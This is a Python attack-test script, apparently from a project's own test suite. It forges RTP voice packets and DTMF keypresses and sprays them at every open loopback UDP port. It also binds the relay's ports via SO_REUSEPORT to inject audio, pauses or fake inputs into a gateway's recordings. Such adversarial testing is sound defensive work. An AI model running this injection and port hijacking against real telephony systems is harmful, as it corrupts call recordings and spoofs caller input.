"""Another account of the gate's machine, without a privilege, that wants forged audio in a recording, a pause in it, or
an objection that nobody made.

Reads from ``/proc/net/udp`` which ports of loopback are open, and sends to each of them RTP with a voice and with the
keys 9, * and 5; from ports of its own, and from every port of the relay's range that it can get.

    python -m tests.attack.tap_forger --relay 20000-20999 --seconds 3

Prints ``ports``, how many were open; ``sent``; and ``taken``, how many of the relay's own ports it could send from.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import struct
import sys
import time
from pathlib import Path

from tests.attack.rtp_spray import SSRC, packet

LOOPBACK = "0100007F"
KEYS = {"9": 9, "*": 10, "5": 5}


def key(digit: str, number: int, *, end: bool) -> bytes:
    """A packet of a pressed key (RFC 4733), payload type 101."""
    head = struct.pack("!BBHII", 0x80, 101 | (0 if end else 0x80), number & 0xFFFF, number * 160 & 0xFFFFFFFF, SSRC)
    return head + struct.pack("!BBH", KEYS[digit], 0x8A if end else 10, 800)


def open_ports() -> set[int]:
    """The UDP ports that somebody has on loopback, or on every address."""
    found = set()
    for line in Path("/proc/net/udp").read_text().splitlines()[1:]:
        address, _, port = line.split()[1].partition(":")
        if address in (LOOPBACK, "00000000"):
            found.add(int(port, 16))
    return found


def borrowed(relay: set[int]) -> list[socket.socket]:
    """Sockets on ports that the relay has, where the kernel gives them."""
    taken = []
    for port in relay:
        own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            own.setsockopt(socket.SOL_SOCKET, option, 1)
        try:
            own.bind(("127.0.0.1", port))
            taken.append(own)
        except OSError:
            own.close()
    return taken


def main(argv: list[str]) -> int:
    """Run it; 0."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--relay", required=True, help="FIRST-LAST: the relay's own ports")
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--spare", type=int, nargs="*", default=[], help="ports that are not the gate's")
    options = parser.parse_args(argv)
    first, _, last = options.relay.partition("-")
    ports = open_ports() - set(options.spare)
    taken = borrowed({port for port in ports if int(first) <= port <= int(last)})
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end = time.monotonic() + min(options.seconds, 60.0)
    sent, number = 0, 0
    while time.monotonic() < end:
        number += 10
        digit = "9*5"[number // 10 % 3]
        burst = [
            packet(number),
            *(key(digit, number + 1, end=False) for _ in range(2)),
            key(digit, number + 1, end=True),
        ]
        for port in ports:
            for data in burst:
                for sender in (own, *taken[:1]):
                    with contextlib.suppress(OSError):
                        sender.sendto(data, ("127.0.0.1", port))
                        sent += 1
        time.sleep(0.02)
    for sender in (own, *taken):
        sender.close()
    print(json.dumps({"ports": len(ports), "sent": sent, "taken": len(taken)}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
